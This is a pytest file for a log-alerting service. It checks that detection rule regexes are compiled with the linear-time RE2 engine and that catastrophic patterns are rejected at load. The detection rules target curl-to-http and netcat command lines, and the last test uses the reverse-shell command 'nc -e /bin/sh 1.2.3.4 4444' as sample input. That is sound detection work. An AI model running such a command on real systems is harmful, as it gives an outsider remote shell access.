"""Rule regexes run on a linear-time engine, RE2 (issue 20 item 5).

Python's ``re`` backtracks: ``.*curl.*http.*`` took about a minute of CPU on one
1 MB command line. RE2 (https://github.com/google/re2/wiki/Syntax) guarantees time
linear in the input and refuses the constructs that need backtracking
(backreferences, lookaround), so such a pattern is refused when the config loads.
The timings are printed by benchmarks/regex_bench.py, not asserted here.
"""

from __future__ import annotations

from typing import Any

import pytest
import re2
from deliver_support import make_event

from alert_service.config import build_config
from alert_service.errors import ConfigError, MatchError
from alert_service.match import RuleSet
from alert_service.match.text import compile_regex


def config(rule: dict[str, Any]) -> dict[str, Any]:
    return {
        "sources": [{"path": "/var/log/osquery/osqueryd.results.log"}],
        "notifiers": [{"name": "hook", "type": "webhook", "url": "http://127.0.0.1:9/h"}],
        "rules": [{"name": "r", "notify": ["hook"], **rule}],
    }


def test_a_rule_regex_is_compiled_by_re2() -> None:
    pattern = compile_regex(".*curl.*http.*")
    assert isinstance(pattern, re2._Regexp)


@pytest.mark.parametrize(
    "pattern",
    [r"(a+)\1", r"(?=curl).*", r"(?<!x)curl", r"(?!a)b"],
)
def test_a_pattern_re2_cannot_run_in_linear_time_is_refused_at_load(pattern: str) -> None:
    with pytest.raises(MatchError, match="RE2"):
        compile_regex(pattern, ".process.cmdline.regex[0]")
    with pytest.raises(ConfigError) as info:
        build_config(config({"process": {"cmdline": {"regex": ["ok.*", pattern]}}}))
    text = str(info.value)
    assert "$.rules[0].process.cmdline.regex[1]" in text
    assert "RE2" in text


def test_worst_case_inputs_still_match_right() -> None:
    rules = RuleSet(
        build_config(
            config(
                {
                    "process": {
                        "cmdline": {"regex": [".*curl.*http.*"]},
                        "name": {"regex": [".*a.*b.*"]},
                    }
                }
            )
        ).rules
    )
    # Many "curl" and never "http": Python's re backtracks from each (minutes).
    huge = ("curl " * ((1 << 20) // 5 + 1))[: 1 << 20]
    long_name = "a" * 131_000
    assert rules.match(make_event(cmdline=huge, name=long_name + "b")) == []
    assert len(rules.match(make_event(cmdline=huge + " curl http", name=long_name + "b"))) == 1
    assert rules.match(make_event(cmdline=huge + " curl http", name=long_name)) == []


def test_python_syntax_that_re2_shares_keeps_working() -> None:
    rules = RuleSet(
        build_config(
            config({"process": {"cmdline": {"regex": [r"nc\s+-e\s+(?P<prog>\S+).*"]}}})
        ).rules
    )
    assert len(rules.match(make_event(cmdline="nc -e /bin/sh 1.2.3.4 4444"))) == 1
    assert rules.match(make_event(cmdline="xnc -e /bin/sh")) == []  # anchored
